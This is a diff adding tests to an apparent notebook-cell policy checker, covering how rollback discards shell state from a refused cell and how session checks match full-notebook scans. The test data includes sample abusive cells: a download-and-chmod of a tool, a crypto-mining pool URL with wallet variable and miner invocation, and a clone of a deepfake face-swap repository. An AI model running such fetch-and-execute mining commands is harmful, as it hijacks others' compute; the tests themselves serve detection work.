@@ -231,3 +231,61 @@ def test_rollback_forgets_a_refused_cell_exactly(engine):
     assert after[0] != before[0] and after[1] != before[1] and after[2] == before[2] + 1
     ctx.rollback(mark)
     assert state() == before
+
+
+def test_rollback_forgets_a_refused_cells_shell_state(engine):
+    """``export``, ``%env`` and ``chmod +x`` in a refused cell must not reach later cells: a
+    later cell reads exactly as in a session where the refused one never came."""
+    first = "!export DATA=/srv/data && chmod +x prep"
+    refused = ("%env POOL=stratum+tcp://pool.example.net:3333\n!export W=WALLET\n%cd /tmp\n"
+               "!cd /tmp && wget https://example.org/x/tool && chmod +x tool\n!" + MINER)
+    later = ["!./tool -o $POOL -u $W", "!./prep $DATA", "!echo $POOL"]
+
+    def state(c):
+        return dict(c.shell.vars), set(c.shell.chmodded), c.cells
+
+    ctx, fresh = engine.new_context(), engine.new_context()
+    engine.check_cell(first, ctx)
+    engine.check_cell(first, fresh)
+    before = state(ctx)
+    assert before[0] == {"DATA": "/srv/data"} and before[1] == {"prep"}
+    mark = ctx.checkpoint()
+    assert engine.check_cell(refused, ctx).verdict == "flag"
+    assert state(ctx) != before and "POOL" in ctx.shell.vars and "tool" in ctx.shell.chmodded
+    ctx.rollback(mark)
+    assert state(ctx) == before
+    for code in later:
+        assert engine.check_cell(code, ctx).to_dict() == engine.check_cell(code, fresh).to_dict(), code
+    # the refused cell, had it run, would have made the first of them a miner
+    assert engine.check_cell(refused, fresh).verdict == "flag"
+    assert engine.check_cell(later[0], fresh).verdict == "flag"
+
+
+def test_checking_without_remembering_leaves_the_shell_state_alone(engine):
+    ctx = engine.new_context()
+    engine.check_cell("!export A=1", ctx)
+    shell = ctx.shell
+    engine.check_cell("!export A=2 B=3 && chmod +x tool", ctx, remember=False)
+    assert ctx.shell is shell and shell.vars == {"A": "1"} and not shell.chmodded
+    engine.check_cell("!export B=3", ctx)
+    assert ctx.shell.vars == {"A": "1", "B": "3"} and shell.vars == {"A": "1"}, "a session's state is replaced, not changed"
+
+
+def test_a_sessions_location_reads_like_a_scan_of_its_notebook(engine):
+    """A context that knows its notebook's path gives each cell the ``location`` a scan of
+    that notebook gives it: the same findings either way, inside a detection benchmark's
+    repository (where name-level deepfake rules give way) and outside it."""
+    import json
+    cells = ["repo = 'https://github.com/s0md3v/roop'", "!git clone https://github.com/s0md3v/roop", "x = 1",
+             "!" + MINER]
+    for path in ("FaceForensics/dataset/demo.ipynb", "notebooks/demo.ipynb"):
+        ctx = engine.new_context(location=path)
+        for code in cells:
+            nb = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+                {"cell_type": "code", "metadata": {}, "outputs": [], "source": code}]}).encode()
+            scanned = engine.scan_bytes(nb, path)
+            checked = engine.check_cell(code, ctx, cell=0, remember=False)
+            assert [(f.rule_id, f.confidence) for f in checked.findings] == \
+                [(f.rule_id, f.confidence) for f in scanned.findings], (path, code)
+    assert engine.check_cell(cells[0], engine.new_context(location="FaceForensics/x.ipynb")).verdict == "allow"
+    assert engine.check_cell(cells[0], engine.new_context()).verdict == "flag"
